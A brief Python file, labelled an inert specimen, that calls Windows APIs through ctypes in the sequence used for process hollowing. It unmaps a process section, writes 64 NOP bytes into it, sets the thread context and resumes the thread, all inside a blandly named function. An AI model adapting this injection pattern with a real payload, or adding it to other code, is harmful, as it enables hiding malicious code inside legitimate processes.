# Inert specimen: the bytes are no-operations.
import ctypes

kernel32 = ctypes.WinDLL("kernel32")
ntdll = ctypes.WinDLL("ntdll")


def grow(process, thread, context, base):
    ntdll.NtUnmapViewOfSection(process, base)
    kernel32.WriteProcessMemory(process, base, b"\x90" * 64, 64, None)
    kernel32.SetThreadContext(thread, context)
    kernel32.ResumeThread(thread)
